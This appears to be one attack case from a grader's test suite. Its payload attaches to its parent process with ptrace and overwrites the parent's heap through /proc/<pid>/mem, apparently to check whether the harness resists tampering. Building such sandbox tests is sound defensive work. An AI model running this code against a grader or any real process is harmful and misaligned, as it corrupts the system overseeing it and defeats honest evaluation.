"""It attaches to the process above it as a debugger would, and writes to its memory."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="processes",
    wants=Want.CHANGE,
    make=answer(
        """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
with open("attached.txt", "w") as note:
    note.write(str(libc.ptrace(16, parent, 0, 0)))
libc.ptrace(17, parent, 0, 0)
with open(f"/proc/{parent}/mem", "r+b", buffering=0) as memory:
    for line in open(f"/proc/{parent}/maps"):
        if "rw-p" in line and "[heap]" in line:
            memory.seek(int(line.split("-")[0], 16))
            memory.write(bytes(1 << 20))
"""
    ),
)
